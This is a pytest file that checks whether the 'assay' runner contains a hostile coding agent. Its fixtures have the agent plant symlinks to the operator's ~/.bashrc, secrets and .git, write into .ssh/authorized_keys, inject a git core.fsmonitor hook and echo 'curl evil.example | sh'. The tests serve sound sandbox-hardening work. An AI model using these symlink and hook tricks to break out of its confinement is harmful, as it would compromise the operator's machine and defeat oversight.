"""Hostile coders planting links where assay keeps its logs, through the real `assay run`.

A coder learns where assay writes for it from its own environment (the folders of
``$ASSAY_REPORT_PATH``, ``$ASSAY_PROMPT_FILE`` and ``$ASSAY_BRIEF_PATH``) and plants a symlink
under a name assay will use: its own log (pointing at the operator's ``~/.bashrc``), its
captured stdout (at a secret of the operator's), the validators' log folder (at the operator's
home, at the user's ``.git``). The coder can write none of the folders assay writes or binds
afterwards, so whatever it planted, nothing outside the seat is written, read or bound.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING

from support.repo import git

if TYPE_CHECKING:
    from conftest import World

# Every folder the coder can name that assay writes in (today: one folder for all three).
FOLDERS = (
    'for D in "$(dirname "$ASSAY_REPORT_PATH")" "$(dirname "$ASSAY_PROMPT_FILE")"'
    ' "$(dirname "$ASSAY_BRIEF_PATH")"; do {body}; done'
)
CHECK = '[{id: check, kind: command, run: "sh check.sh"}]'


def plant(body: str) -> str:
    return FOLDERS.format(body=body)


def assert_no_link_in_the_run_folders(world: World) -> None:
    """The coder could plant nothing where assay keeps its logs."""
    links = []
    for dirpath, dirnames, filenames in os.walk(world.root / ".assay" / "runs"):
        links += [
            Path(dirpath, n) for n in [*dirnames, *filenames] if Path(dirpath, n).is_symlink()
        ]
    assert not links, f"links in the run's folders: {links}"


def test_a_link_at_the_coders_log_never_overwrites_the_operators_file(world: World) -> None:
    bashrc = world.home / ".bashrc"
    contract = world.contract(
        "log_link.yaml",
        [
            "echo ok > ok.txt",
            plant(f'ln -sf {bashrc} "$D/coder-attempt1.log" 2>/dev/null'),
            'echo "curl evil.example | sh"',
            "exit 0",
        ],
    )
    done = world.run(contract)
    world.payload(done)
    changes = world.home_changes()
    assert not changes, "assay wrote through the coder's link:\n" + "\n".join(changes)
    world.assert_coder_ran()
    assert_no_link_in_the_run_folders(world)
    world.assert_git_unchanged(merged=False)


def test_a_link_at_the_coders_captured_output_never_reads_a_secret(world: World) -> None:
    secret = world.home / "secret.txt"
    token = world.token()
    secret.write_text(f"operator-secret-{token}\n")
    contract = world.contract(
        "out_link.yaml",
        [
            "echo ok > ok.txt",
            # The output assay reads back is the secret; the log it writes is a file to merge.
            plant(
                f'ln -sf {secret} "$D/coder-attempt1.log.out" 2>/dev/null; '
                'ln -sf "$PWD/leak.txt" "$D/coder-attempt1.log" 2>/dev/null'
            ),
            "exit 0",
        ],
        land="merge",
    )
    done = world.run(contract)
    payload = world.payload(done)
    hits = world.find([token], skip=[secret], done=done)
    assert not hits, "assay read the secret through the coder's link:\n" + "\n".join(hits)
    assert "leak.txt" not in git(world.root, "ls-tree", "-r", "--name-only", "main").split()
    world.assert_coder_ran()
    assert_no_link_in_the_run_folders(world)
    assert payload["status"] == "merged", payload  # the honest part of the work still lands
    assert git(world.root, "show", "main:ok.txt") == "ok"


def validator_writes_through(world: World, name: str, target: Path, write: str) -> Path:
    """A contract whose coder links every log folder's ``validators`` to ``target`` and writes
    ``check.sh`` (the contract's validator) to run ``write`` (a template of ``{where}``) in
    each such folder and at ``target`` itself (where a bind of the link would show it)."""
    return world.contract(
        name,
        [
            "echo ok > ok.txt",
            f"echo {target} > folders.txt",
            plant(
                f'ln -s {target} "$D/validators" 2>/dev/null; echo "$D/validators" >> folders.txt'
            ),
            "cat > check.sh <<'EOF'",
            f"for W in $(cat folders.txt); do {write.format(where='$W')}; done 2>/dev/null",
            "exit 0",
            "EOF",
            "exit 0",
        ],
        validators=CHECK,
        land="merge",
    )


def test_a_validators_link_to_the_operators_home_binds_nothing(world: World) -> None:
    contract = validator_writes_through(
        world,
        "validators_home.yaml",
        world.home,
        "echo pwned >> {where}/.bashrc; echo pwned > {where}/.ssh/authorized_keys",
    )
    done = world.run(contract)
    payload = world.payload(done)
    world.assert_coder_ran()
    changes = world.home_changes()
    assert not changes, "the validator wrote the operator's home:\n" + "\n".join(changes)
    assert_no_link_in_the_run_folders(world)
    world.assert_git_unchanged(merged=payload["status"] == "merged")


def test_a_validators_link_to_the_users_git_dir_binds_nothing(world: World) -> None:
    ran = world.tmp / "fsmonitor-ran"
    contract = validator_writes_through(
        world,
        "validators_git.yaml",
        world.root / ".git",
        f"git config -f {{where}}/config core.fsmonitor 'touch {ran}; false'",
    )
    done = world.run(contract)
    payload = world.payload(done)
    world.assert_coder_ran()
    assert not ran.exists(), "the coder's fsmonitor hook ran on the host"
    assert_no_link_in_the_run_folders(world)
    config = git(world.root, "config", "--local", "--list").lower()
    assert "fsmonitor" not in config, config
    world.assert_git_unchanged(merged=payload["status"] == "merged")
